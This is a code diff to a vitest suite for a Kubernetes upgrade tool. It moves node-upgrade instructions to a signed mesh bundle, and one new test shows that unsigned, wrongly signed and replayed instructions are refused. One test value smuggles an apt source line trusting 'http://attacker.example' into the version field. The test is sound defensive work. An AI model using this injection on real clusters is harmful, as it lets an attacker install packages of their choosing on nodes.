@@ -4,10 +4,10 @@ import { mkdtemp, writeFile, mkdir } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
-import { FileLease, clusterKey } from '@kubeplane/sdk';
+import { FileLease, clusterKey, generateMeshSigningKeyPair, signMeshBundle, type MeshBundle } from '@kubeplane/sdk';
 import { sandboxKubernetes, type Sandbox } from '@kubeplane/providers';
 import { acquireProcessLock } from '../../packages/handlers/src/runtime/process-lock.js';
-import { liveMachines, manifestOf, sandboxWorld } from '../helpers/sandbox-world.js';
+import { liveMachines, manifestOf, meshBundleOf, meshSigningKey, sandboxWorld } from '../helpers/sandbox-world.js';
 
 const minimal = readFileSync(join(import.meta.dirname, '..', '..', 'examples', 'minimal.yaml'), 'utf8');
 const badServerType = minimal.replace('serverType: cpx32', 'serverType: cpx999');
@@ -75,7 +75,8 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
     const kubeletVersions = (await k8s.listNodes()).map((n) => n.kubeletVersion);
     expect(kubeletVersions).toEqual(['v1.35.0', 'v1.35.0', 'v1.35.0']);
     const mesh = await k8s.getConfigMap('kube-system', 'kubeplane-mesh');
-    expect(Object.keys(mesh ?? {}).filter((k) => k.startsWith('upgrade-'))).toEqual([]);
+    expect(Object.keys(mesh ?? {}).sort()).toEqual(['bundle', 'bundle.sig']);
+    expect(meshBundleOf(mesh)?.upgrade).toBeUndefined();
     expect(events.some((e) => e.type === 'error')).toBe(false);
     const endpoint = sandbox.kubernetes.inventory().clusters[0]?.endpoint ?? '';
     expect(sandbox.kubernetes.cluster(endpoint)?.identity.kubernetesVersion).toBe('v1.35.0');
@@ -91,7 +92,7 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
     for (let i = 0; i < 200; i++) {
       await kp.run({ maxMessages: 1 });
       const mesh = await k8s.getConfigMap('kube-system', 'kubeplane-mesh');
-      if ((mesh?.['upgrade-nodes'] ?? '').includes('-workers-')) break;
+      if ((meshBundleOf(mesh)?.upgrade?.nodes ?? []).some((n) => n.includes('-workers-'))) break;
     }
     await kp.apply(manifestOf(minimal));
     await kp.run();
@@ -100,7 +101,7 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
     expect(status.clusters['minimal']?.message).toMatch(/-control-01 already runs v1\.35\.0, newer than v1\.34\.2; Kubernetes cannot be downgraded/);
     const nodes = await k8s.listNodes();
     expect(nodes.filter((n) => n.unschedulable)).toEqual([]);
-    expect((await k8s.getConfigMap('kube-system', 'kubeplane-mesh'))?.['upgrade-nodes']).toBeUndefined();
+    expect(meshBundleOf(await k8s.getConfigMap('kube-system', 'kubeplane-mesh'))?.upgrade).toBeUndefined();
     // Applying the newer version again finishes the upgrade.
     await kp.apply(manifestOf(minimal.replace('"1.34.2"', '"1.35.0"')));
     await kp.run();
@@ -109,19 +110,63 @@ describe('a Kubernetes version upgrade of an existing cluster', () => {
   });
 
   it('the sandbox holds kubeadm to its rules: a worker told to upgrade before its control plane refuses', async () => {
-    const { kp, sandbox } = world(5);
+    const w = world(5);
+    const { kp, sandbox } = w;
     await kp.apply(manifestOf(minimal));
     await kp.run();
     const k8s = sandboxKubernetes(sandbox)(await kp.kubeconfig('minimal', 'minimal'));
     const worker = (await k8s.listNodes()).find((n) => n.name.includes('-workers-'))?.name ?? '';
-    const mesh = (await k8s.getConfigMap('kube-system', 'kubeplane-mesh')) ?? {};
-    await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', { ...mesh, 'upgrade-nodes': worker, 'upgrade-version': '1.35.0', 'upgrade-package': '1.35.0-1.1', 'upgrade-mode': 'node' });
+    const current = meshBundleOf(await k8s.getConfigMap('kube-system', 'kubeplane-mesh'));
+    if (!current) throw new Error('the engine published no mesh bundle');
+    // Signed with the cluster's key, as only the engine could.
+    const upgrade = { nodes: [worker], version: '1.35.0', package: '1.35.0-1.1', mode: 'node' as const };
+    await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', signMeshBundle({ ...current, serial: current.serial + 1, upgrade }, (await meshSigningKey(w, 'minimal')).privateKeyPem));
     await k8s.listNodes();
     sandbox.clock.advance(5 * 60_000);
     const nodes = await k8s.listNodes();
     expect(nodes.find((n) => n.name === worker)?.kubeletVersion).toBe('v1.34.2');
     const log = sandbox.kubernetes.kubelets().find((k) => k.node === worker)?.log.map((l) => l.message) ?? [];
     expect(log.some((m) => /upgrade the control plane first/.test(m))).toBe(true);
+  });
+
+  it('follows no one who can merely write the mesh ConfigMap: unsigned upgrade keys, another key, a replayed serial are refused', async () => {
+    const w = world(8);
+    const { kp, sandbox } = w;
+    await kp.apply(manifestOf(minimal));
+    await kp.run();
+    const k8s = sandboxKubernetes(sandbox)(await kp.kubeconfig('minimal', 'minimal'));
+    const control = (await k8s.listNodes()).find((n) => n.name.includes('-control-'))?.name ?? '';
+    const published = (await k8s.getConfigMap('kube-system', 'kubeplane-mesh')) ?? {};
+    const current = meshBundleOf(published) as MeshBundle;
+    const key = (await meshSigningKey(w, 'minimal')).privateKeyPem;
+    const upgrade = { nodes: [control], version: '1.35.0', package: '1.35.0-1.1', mode: 'apply' as const };
+    // The nodes have applied a bundle of serial n + 3 (genuine, no instruction).
+    await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', signMeshBundle({ ...current, serial: current.serial + 3 }, key));
+    await k8s.listNodes();
+    sandbox.clock.advance(60_000);
+    const attempts: Array<Record<string, string>> = [
+      // The apt source injection of the old, unsigned keys, next to the genuine bundle.
+      { ...published, 'upgrade-nodes': control, 'upgrade-version': '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example', 'upgrade-package': '1.35.0-1.1', 'upgrade-mode': 'apply' },
+      signMeshBundle({ ...current, serial: current.serial + 1, upgrade }, generateMeshSigningKeyPair().privateKeyPem),
+      signMeshBundle({ ...current, serial: current.serial + 2, upgrade }, key),
+    ];
+    for (const data of attempts) {
+      await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', data);
+      await k8s.listNodes();
+      sandbox.clock.advance(5 * 60_000);
+      expect((await k8s.listNodes()).find((n) => n.name === control)?.kubeletVersion).toBe('v1.34.2');
+    }
+    const log = sandbox.kubernetes.kubelets().find((k) => k.node === control)?.log.map((l) => l.message) ?? [];
+    expect(log).toEqual(expect.arrayContaining([
+      'kubeplane-mesh-sync: refused the mesh bundle: its signature does not verify with the mesh signing key; nothing changed',
+      `kubeplane-mesh-sync: refused the mesh bundle: its serial ${current.serial + 2} is below the last applied (${current.serial + 3}): a replay; nothing changed`,
+    ]));
+    expect(log.some((m) => /upgrading in place/.test(m))).toBe(false);
+    // The same instruction signed by the engine's key, with a new serial, is carried out.
+    await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', signMeshBundle({ ...current, serial: current.serial + 4, upgrade }, key));
+    await k8s.listNodes();
+    sandbox.clock.advance(5 * 60_000);
+    expect((await k8s.listNodes()).find((n) => n.name === control)?.kubeletVersion).toBe('v1.35.0');
   });
 });
 
